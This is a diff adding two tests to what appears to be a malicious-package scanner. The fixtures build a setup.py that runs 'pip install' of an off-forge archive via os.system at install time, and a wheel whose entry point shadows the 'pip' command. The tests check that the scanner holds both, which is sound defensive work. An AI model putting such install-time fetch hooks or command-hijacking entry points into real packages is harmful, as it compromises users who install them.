@@ -388,3 +388,34 @@ def test_urls_outside_what_installing_asks_for_are_no_url_requirements() -> None
     )
     rules, held = _judge(archive, "demo-1.0.tar.gz")
     assert not held and rules["url-requirement"] == 2
+
+
+def test_install_time_pip_install_of_an_archive_off_the_forges_is_held() -> None:
+    def judge(command: str) -> tuple[dict[str, float], bool]:
+        setup = (
+            f"import os\nfrom setuptools import setup\nos.system({command!r})\n"
+            "setup(name='demo', version='1.0')\n"
+        )
+        archive = sdist({"setup.py": setup, "PKG-INFO": pkg_info(), "demo/__init__.py": "X = 1\n"})
+        return _judge(archive, "demo-1.0.tar.gz")
+
+    rules, held = judge("pip install https://files.example-cdn.com/helper-1.0.tar.gz")
+    assert held and rules["hidden-install"] == 10
+    rules, held = judge("pip install git+https://github.com/someone/helper")
+    assert not held and rules["hidden-install"] == 6
+
+
+def test_a_pip_command_from_another_project_is_held() -> None:
+    entry_points = "[console_scripts]\npip = demo.cli:main\n"
+    archive = wheel(
+        {"demo/__init__.py": "X = 1\n", "demo/cli.py": "def main():\n    return 0\n",
+         "demo-1.0.dist-info/entry_points.txt": entry_points}
+    )
+    rules, held = _judge(archive, "demo-1.0-py3-none-any.whl")
+    assert held and rules["command-hijack"] == 10
+    archive = wheel(
+        {"demo/__init__.py": "X = 1\n", "demo/cli.py": "def main():\n    return 0\n",
+         "demo-1.0.dist-info/entry_points.txt": entry_points.replace("pip =", "ls =")}
+    )
+    rules, held = _judge(archive, "demo-1.0-py3-none-any.whl")
+    assert not held and rules["command-hijack"] == 8
